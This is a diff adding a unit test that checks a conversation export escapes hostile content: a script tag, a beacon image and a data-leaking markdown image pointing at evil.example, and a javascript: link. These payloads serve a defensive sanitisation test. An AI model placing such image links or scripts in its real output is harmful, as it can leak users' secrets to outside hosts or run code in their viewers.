@@ -216,3 +216,19 @@ def test_export_writes_the_conversation_as_markdown(harness: HarnessFactory, tmp
     assert '**Tool call** `Read`\n\n```json\n{\n  "file_path": "a.md"\n}\n```' in markdown
     assert "````\n" in markdown  # the result's own ``` cannot close the fence around it
     assert markdown.rstrip().endswith("It holds a **fence**.")
+
+
+def test_the_export_neutralises_html_remote_images_and_script_links(
+    harness: HarnessFactory, tmp_path: Path
+) -> None:
+    hostile = (
+        'Done. <script>alert(1)</script> <img src="https://evil.example/beacon.png"> '
+        "![chart](https://evil.example/leak.png?d=secret) [docs](javascript:alert(1))"
+    )
+    h = harness([Turn(blocks=[Text(hostile)])], session_options=_saving(tmp_path))
+    h.run("summarise")
+    markdown = session_markdown(load_session(_only_file(tmp_path)))
+    assert "<script" not in markdown and "<img" not in markdown
+    assert "&lt;script>alert(1)&lt;/script>" in markdown
+    assert "![" not in markdown and "[image: chart](https://evil.example/leak.png?d=secret)" in markdown
+    assert "javascript:" not in markdown and "[docs](#)" in markdown
